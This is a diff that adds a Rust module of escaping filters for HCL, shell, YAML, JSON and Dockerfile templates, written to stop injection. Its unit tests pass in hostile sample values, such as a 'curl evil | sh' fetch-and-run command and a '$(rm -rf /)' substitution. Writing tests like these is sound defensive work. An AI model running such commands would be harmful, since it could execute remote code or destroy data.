@@ -1,0 +1,134 @@
+//! Escaping for every language a value can land in. Values from a repository
+//! or a request (names, commands, env var names, domains, paths) reach
+//! templates only through these filters.
+//!
+//! - `hcl`: a complete, double-quoted HCL string literal. `\`, `"` and control
+//!   characters are escaped; `${` and `%{` become `$${` and `%%{`, so a value
+//!   can never start an interpolation or a template directive.
+//! - `hcl_heredoc`: text for the body of a `<<-EOT` heredoc (same `${`/`%{`
+//!   treatment); the caller picks a delimiter the text does not contain
+//!   (`heredoc_delimiter`).
+//! - `sh`: one single-quoted POSIX shell word (`'` → `'\''`).
+//! - `yaml`: a double-quoted YAML scalar (JSON string syntax, which YAML accepts).
+//! - `json`: a JSON string literal.
+//! - `docker_cmd`: a shell command as Dockerfile JSON exec form
+//!   `["/bin/sh", "-c", "…"]`, so a `;` or `$(...)` stays one argument of sh.
+//!
+//! Not here: deciding what to render.
+
+/// A complete HCL quoted string literal for `s`.
+pub fn hcl(s: &str) -> String {
+    let mut out = String::with_capacity(s.len() + 2);
+    out.push('"');
+    let mut chars = s.chars().peekable();
+    while let Some(c) = chars.next() {
+        match c {
+            '\\' => out.push_str("\\\\"),
+            '"' => out.push_str("\\\""),
+            '\n' => out.push_str("\\n"),
+            '\r' => out.push_str("\\r"),
+            '\t' => out.push_str("\\t"),
+            '$' if chars.peek() == Some(&'{') => out.push_str("$$"),
+            '%' if chars.peek() == Some(&'{') => out.push_str("%%"),
+            c if (c as u32) < 0x20 || c == '\u{7f}' => {
+                out.push_str(&format!("\\u{:04x}", c as u32))
+            }
+            c => out.push(c),
+        }
+    }
+    out.push('"');
+    out
+}
+
+/// Text for a heredoc body: interpolation and directive openers made literal.
+pub fn hcl_heredoc(s: &str) -> String {
+    s.replace("${", "$${").replace("%{", "%%{")
+}
+
+/// A heredoc delimiter (`EOT`, `EOT1`, …) that does not occur as a line in `s`.
+pub fn heredoc_delimiter(s: &str) -> String {
+    let mut n = 0;
+    loop {
+        let d = if n == 0 {
+            "EOT".to_string()
+        } else {
+            format!("EOT{n}")
+        };
+        if !s.lines().any(|l| l.trim() == d) {
+            return d;
+        }
+        n += 1;
+    }
+}
+
+/// One single-quoted POSIX shell word.
+pub fn sh(s: &str) -> String {
+    format!("'{}'", s.replace('\'', "'\\''"))
+}
+
+/// A JSON string literal.
+pub fn json(s: &str) -> String {
+    serde_json::to_string(s).expect("strings serialise")
+}
+
+/// A double-quoted YAML scalar (JSON strings are valid YAML).
+pub fn yaml(s: &str) -> String {
+    json(s)
+}
+
+/// A shell command in Dockerfile JSON exec form, run by `/bin/sh -c`.
+pub fn docker_cmd(cmd: &str) -> String {
+    serde_json::to_string(&["/bin/sh", "-c", cmd]).expect("strings serialise")
+}
+
+/// Register the filters on a minijinja environment.
+pub fn register(env: &mut minijinja::Environment<'_>) {
+    env.add_filter("hcl", |s: String| hcl(&s));
+    env.add_filter("hcl_heredoc", |s: String| hcl_heredoc(&s));
+    env.add_filter("sh", |s: String| sh(&s));
+    env.add_filter("yaml", |s: String| yaml(&s));
+    env.add_filter("json", |s: String| json(&s));
+    env.add_filter("docker_cmd", |s: String| docker_cmd(&s));
+    env.add_function("heredoc_delimiter", |s: String| heredoc_delimiter(&s));
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn hcl_makes_interpolation_inert() {
+        assert_eq!(
+            hcl("node app.js; curl evil | sh # ${path.module}"),
+            r#""node app.js; curl evil | sh # $${path.module}""#
+        );
+        assert_eq!(
+            hcl("%{ if true }x%{ endif }"),
+            r#""%%{ if true }x%%{ endif }""#
+        );
+        assert_eq!(hcl("a\"b\\c\nd"), r#""a\"b\\c\nd""#);
+        assert_eq!(hcl("$5 and 100%"), r#""$5 and 100%""#);
+        assert_eq!(hcl("\u{1}"), r#""\u0001""#);
+    }
+
+    #[test]
+    fn shell_words_stay_one_word() {
+        assert_eq!(sh("it's $(rm -rf /)"), r#"'it'\''s $(rm -rf /)'"#);
+        assert_eq!(sh(""), "''");
+    }
+
+    #[test]
+    fn docker_exec_form() {
+        assert_eq!(
+            docker_cmd("node app.js; echo \"x\""),
+            r#"["/bin/sh","-c","node app.js; echo \"x\""]"#
+        );
+    }
+
+    #[test]
+    fn heredoc_delimiters_avoid_the_text() {
+        assert_eq!(heredoc_delimiter("a\nb"), "EOT");
+        assert_eq!(heredoc_delimiter("a\nEOT\n"), "EOT1");
+        assert_eq!(hcl_heredoc("x ${y} %{z}"), "x $${y} %%{z}");
+    }
+}
